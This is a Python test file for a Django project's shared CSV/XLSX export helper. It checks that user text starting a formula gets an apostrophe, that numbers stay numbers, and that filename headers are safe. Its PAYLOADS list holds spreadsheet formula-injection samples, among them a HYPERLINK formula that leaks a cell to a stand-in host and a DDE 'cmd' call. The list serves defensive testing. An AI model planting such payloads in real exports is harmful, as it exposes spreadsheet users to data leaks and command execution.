"""The one writer of CSV and XLSX files: a cell a user typed never becomes a formula, figures stay
figures, and files are named by one helper."""

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

from django.http import HttpResponse
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook
from openpyxl.styles import Font

from tadamon.common.files import (
    append_row,
    csv_lines,
    csv_response,
    neutralise,
    new_sheet,
    new_workbook,
    with_filename,
    workbook_bytes,
    xlsx_bytes,
    xlsx_response,
)

# What OWASP lists as the start of a formula (or of a DDE call) in a spreadsheet cell.
PAYLOADS = ['=HYPERLINK("http://x?leak="&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+9)", "-2+3", "\tx", "\rx"]


def formulas(content: bytes) -> list[str]:
    """The <f> elements of every sheet of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [found for name in archive.namelist() if name.startswith("xl/worksheets/")
                for found in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())]


def as_read(text: str) -> str:
    """A cell's text as a reader of the XLSX gets it: XML turns a carriage return into a line feed."""
    return text.replace("\r", "\n")


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_text_that_starts_a_formula_gets_an_apostrophe_and_the_rest_is_untouched():
    assert [neutralise(value) for value in PAYLOADS] == ["'" + value for value in PAYLOADS]
    assert neutralise("Coopérative Tifaout") == "Coopérative Tifaout"
    assert neutralise("تعاونية =1+1") == "تعاونية =1+1"  # only the first character counts
    assert neutralise(" =1+1") == " =1+1"  # a spreadsheet reads this as text
    for typed in (None, 0, -5, 2.5, Decimal("-12.50"), True, datetime.date(2024, 1, 2),
                  datetime.datetime(2024, 1, 2, 10, 30)):
        assert neutralise(typed) is typed
    assert neutralise(gettext_lazy("Total")) == "Total"


def test_csv_lines_start_with_a_bom_and_neutralise_each_cell():
    lines = list(csv_lines([["name", "value"], *[[payload, -3] for payload in PAYLOADS], ["Dadès", None]]))
    assert lines[0] == "\ufeff" and lines[1] == "name,value\r\n"  # one line at a time, for streaming
    rows = read_csv("".join(lines))
    assert rows[1:-1] == [["'" + payload, "-3"] for payload in PAYLOADS]
    assert rows[-1] == ["Dadès", ""]


def test_an_xlsx_holds_text_as_strings_never_formulas_and_numbers_as_numbers():
    content = xlsx_bytes([["name", "count", "since"], *[[payload, 3, datetime.date(2020, 5, 1)] for payload in PAYLOADS],
                          ["#N/A", -2.5, None]], title="Organisations et membres", right_to_left=True)
    assert formulas(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert [row[0] for row in rows[1:-1]] == [as_read("'" + payload) for payload in PAYLOADS]
    assert {row[1] for row in rows[1:-1]} == {3} and rows[1][2] == datetime.datetime(2020, 5, 1)
    assert rows[-1][:2] == ("#N/A", -2.5)  # text, not Excel's error value
    assert all(cell.data_type == "s" for cell in sheet["A"])
    assert sheet.title == "Organisations et membres"[:31] and sheet.sheet_view.rightToLeft


def test_a_styled_workbook_with_several_sheets_writes_its_cells_the_same_way():
    workbook = new_workbook()
    for title in ("Un", "Deux"):
        sheet = new_sheet(workbook, title, right_to_left=False)
        append_row(sheet, ["Indicateur", "Valeur"])
        sheet["A1"].font = Font(bold=True)
        append_row(sheet, [PAYLOADS[0], 12])
    content = workbook_bytes(workbook)
    assert formulas(content) == []
    read = load_workbook(io.BytesIO(content))
    assert read.sheetnames == ["Un", "Deux"] and read["Deux"]["A1"].font.bold
    assert [cell.value for cell in read["Deux"][2]] == ["'" + PAYLOADS[0], 12]


def test_responses_name_their_files_as_attachments_or_inline():
    response = csv_response([["a"], ["=1+1"]], "tadamon-organizations-20240101-1000.csv", streaming=True)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="tadamon-organizations-20240101-1000.csv"'
    assert read_csv(b"".join(response.streaming_content).decode()) == [["a"], ["'=1+1"]]
    assert read_csv(csv_response([["a"]], "a.csv").content.decode()) == [["a"]]
    xlsx = xlsx_response(xlsx_bytes([["a"]], title="a", right_to_left=False), "report.xlsx")
    assert xlsx["Content-Disposition"] == 'attachment; filename="report.xlsx"'
    assert xlsx["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert with_filename(HttpResponse(), "labels.pdf", inline=True)["Content-Disposition"] == (
        'inline; filename="labels.pdf"')
    # A quote in a name cannot end the header's value early; a non-ASCII name is encoded.
    assert with_filename(HttpResponse(), 'a"b.csv')["Content-Disposition"] == r'attachment; filename="a\"b.csv"'
    assert with_filename(HttpResponse(), "تقرير.pdf")["Content-Disposition"] == (
        "attachment; filename*=utf-8''%D8%AA%D9%82%D8%B1%D9%8A%D8%B1.pdf")


def test_no_other_module_writes_csv_or_xlsx_or_a_content_disposition_header():
    root = Path(__file__).resolve().parents[2]
    offending = []
    for source in root.rglob("*.py"):
        if "tests" in source.parts or source == root / "common" / "files.py":
            continue
        text = source.read_text()
        for pattern in (r"csv\.writer\(", r"csv\.DictWriter\(", r"\bWorkbook\(", r"Content-Disposition"):
            offending += [f"{source.relative_to(root)}: {pattern}" for _match in re.finditer(pattern, text)]
    assert offending == []
